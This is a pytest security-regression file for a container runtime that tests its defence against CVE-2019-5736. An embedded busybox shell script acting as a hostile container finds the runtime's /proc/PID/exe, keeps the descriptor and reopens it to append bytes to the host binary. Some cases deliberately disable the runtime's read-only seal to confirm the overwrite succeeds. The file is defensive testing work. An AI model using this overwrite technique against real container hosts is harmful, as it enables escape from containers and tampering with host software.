"""CVE-2019-5736: overwriting the host's program through ``/proc/PID/exe`` of what enters.

A container with every capability opens the runtime's image while the runtime is inside, keeps the
descriptor until the program has ended (before, the kernel answers ETXTBSY), and opens it again for
writing. All this is done to a copy of the interpreter, in an installation made of links, once with
the seal and once without it.
"""

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import boxship
from boxship.runtime import launcher_start
from boxship.runtime.capabilities import CAPABILITIES
from boxship.runtime.defaults import default_spec
from boxship.runtime.launcher_start import spawn_launcher
from support.residue import RUN
from support.waiting import eventually

pytestmark = pytest.mark.privileged

SOURCE = str(Path(boxship.__file__).parents[1])
TAINT = b"tainted by the container\n"

CATCH = """
until [ -e /tmp/armed ]; do sleep 0.01; done
for p in /proc/[0-9]*; do
    n=${p#/proc/}
    case $(readlink $p/exe) in */busybox) continue;; esac
    [ $n = 1 ] || exec 9<$p/exe && break
done
readlink /proc/self/fd/9 > /tmp/caught
until [ -e /tmp/over ]; do sleep 0.01; done
until echo "tainted by the container" 2>/tmp/why >>/proc/self/fd/9; do
    grep -q busy /tmp/why || break
    sleep 0.01
done
touch /tmp/done
exec sleep 1000
"""

DRIVER = """
import sys
sys.path.insert(0, {source!r})
from boxship.runtime import main as program
HOLD = {hold!r}
if {weak}:
    program._seal = lambda again: None
    exec(HOLD)
program._AGAIN = program._AGAIN.replace("; main(again", "\\n" + HOLD + "\\nmain(again")
program.main()
"""

HOLD = """
import os, time
from boxship.runtime import enter
def hold(entry):
    os.close(os.open("/tmp/armed", os.O_CREAT | os.O_WRONLY))
    while not os.path.exists("/tmp/caught"):
        time.sleep(0.001)
enter.PREPARATIONS = (*enter.PREPARATIONS, ("hold", hold))
"""
"""Keeps the runtime inside for as long as the attacker needs: the race is won for him."""


class Installation:
    """A copy of the interpreter that finds the library where the real one has it."""

    def __init__(self, place: Path) -> None:
        self.interpreter = place / "bin" / f"python{sys.version_info[0]}.{sys.version_info[1]}"
        self.interpreter.parent.mkdir(parents=True)
        (place / "lib").symlink_to(f"{sys.base_prefix}/lib")
        real = os.path.realpath(getattr(sys, "_base_executable", sys.executable))
        shutil.copy(real, self.interpreter)

    @property
    def tainted(self) -> bool:
        return self.interpreter.read_bytes().endswith(TAINT)


class Bundle:
    """A root whose first process is the attacker, with every capability."""

    def __init__(self, place: Path, name: str) -> None:
        self.place, self.name = place / name, name
        self.rootfs = self.place / "rootfs"
        for part in ("bin", "tmp", "proc", "dev"):
            (self.rootfs / part).mkdir(parents=True)
        shutil.copy("/bin/busybox", self.rootfs / "bin/busybox")
        for applet in ("sh", "sleep", "readlink", "grep", "touch", "true"):
            (self.rootfs / "bin" / applet).symlink_to("busybox")
        (self.rootfs / "catch").write_text(CATCH)

    def configure(self, *args: str, pid_namespace: str = "") -> None:
        document: Any = default_spec(args).to_json()
        everything = list(CAPABILITIES)
        document["process"]["capabilities"] = dict.fromkeys(
            ("bounding", "effective", "permitted"), everything
        )
        linux = document["linux"]
        linux["cgroupsPath"] = f"/{RUN}image-{self.name}"
        if pid_namespace:
            (pid,) = (n for n in linux["namespaces"] if n["type"] == "pid")
            pid["path"] = pid_namespace
        (self.place / "config.json").write_text(json.dumps(document))


class Attack:
    """The runtime by a driver, on a copy of the interpreter, with a state directory."""

    def __init__(self, place: Path, *, weak: bool, hold: str = "") -> None:
        self.state, self.installation = place / "state", Installation(place / "python")
        driver = DRIVER.format(source=SOURCE, hold=hold, weak=weak)
        self.own = [str(self.installation.interpreter), "-c", driver, "--root", str(self.state)]
        plain = DRIVER.format(source=SOURCE, hold="", weak=False)
        self.plain = [sys.executable, "-c", plain, "--root", str(self.state)]

    def call(self, program: list[str], *words: str, bundle: Bundle) -> subprocess.Popen[bytes]:
        null = subprocess.DEVNULL
        return subprocess.Popen([*program, *words], cwd=bundle.place, stdin=null, stdout=null)


@pytest.fixture
def attacker(tmp_path: Path) -> Iterator[Bundle]:
    made = Bundle(tmp_path, "attacker")
    made.configure("sh", "/catch")
    yield made


def finish(attack: Attack, attacker: Bundle, *names: str) -> str:
    """Let the attacker have his second try, now that nothing runs from the image any more."""
    (attacker.rootfs / "tmp/over").touch()
    eventually((attacker.rootfs / "tmp/done").exists, "the attack's end", timeout=20)
    for name in names:
        over = attack.call(attack.plain, "delete", "--force", name, bundle=attacker)
        assert over.wait(30) == 0
    return (attacker.rootfs / "tmp/why").read_text()


@pytest.mark.parametrize("weak", [False, True], ids=["sealed", "weakened"])
def test_exec_into_a_hostile_container(tmp_path: Path, attacker: Bundle, weak: bool) -> None:
    attack = Attack(tmp_path, weak=weak, hold=HOLD)
    assert attack.call(attack.plain, "run", "-d", "a", bundle=attacker).wait(30) == 0
    assert attack.call(attack.own, "exec", "a", "true", bundle=attacker).wait(30) == 0
    why = finish(attack, attacker, "a")
    assert attack.installation.tainted is weak
    assert weak or "Read-only file system" in why


@pytest.mark.parametrize("weak", [False, True], ids=["sealed", "weakened"])
def test_a_container_beside_a_hostile_one(tmp_path: Path, attacker: Bundle, weak: bool) -> None:
    """``create`` leaves a process that waits for ``start``, in a pid namespace that is shared."""
    attack = Attack(tmp_path, weak=weak)
    assert attack.call(attack.plain, "run", "-d", "a", bundle=attacker).wait(30) == 0
    state = json.loads((attack.state / "a/state.json").read_text())
    pid = state.get("pid") or state["init_process_pid"]
    victim = Bundle(tmp_path, "victim")
    victim.configure("true", pid_namespace=f"/proc/{pid}/ns/pid")
    assert attack.call(attack.own, "create", "b", bundle=victim).wait(30) == 0
    (attacker.rootfs / "tmp/armed").touch()
    eventually((attacker.rootfs / "tmp/caught").exists, "the image to be opened")
    assert attack.call(attack.plain, "start", "b", bundle=victim).wait(30) == 0
    why = finish(attack, attacker, "b", "a")
    assert attack.installation.tainted is weak
    assert weak or "Read-only file system" in why


@pytest.mark.parametrize("weak", [False, True], ids=["sealed", "weakened"])
def test_the_daemons_launcher(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, weak: bool) -> None:
    """Every process that enters a container on the daemon's behalf is a fork of the launcher."""
    installation = Installation(tmp_path / "python")
    monkeypatch.setattr(sys, "_base_executable", str(installation.interpreter))
    if weak:
        monkeypatch.setattr(
            launcher_start, "read_only_image", lambda path: os.open(path, os.O_RDONLY)
        )
    run = tmp_path / "run"
    run.mkdir()
    pid, control = spawn_launcher(str(run))
    try:
        name = Path(f"/proc/{pid}/comm")
        eventually(lambda: name.read_text().startswith("boxship"), "the launcher")
        image = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
    finally:
        control.close()
        os.waitpid(pid, 0)
    try:
        writable = os.open(f"/proc/self/fd/{image}", os.O_WRONLY | os.O_APPEND)
    except OSError as error:
        assert (weak, error.strerror) == (False, "Read-only file system")
    else:
        os.write(writable, TAINT)
        os.close(writable)
    finally:
        os.close(image)
    assert installation.tainted is weak


def test_no_variable_breaks_the_seal(tmp_path: Path, attacker: Bundle) -> None:
    """The image itself is looked at; what the environment says about it counts for nothing."""
    attack = Attack(tmp_path, weak=False)
    again = attack.own.copy()
    again[2] = again[2].replace("program.main()", "program.main(again=True)")
    done = subprocess.run(
        [*again, "run", "a"], cwd=attacker.place, capture_output=True, text=True, check=False,
        env={**os.environ, "BOXSHIP_SEALED": "1"},
    )  # fmt: skip
    assert done.returncode == 1
    assert "stays writable" in done.stderr
    assert not attack.state.exists()
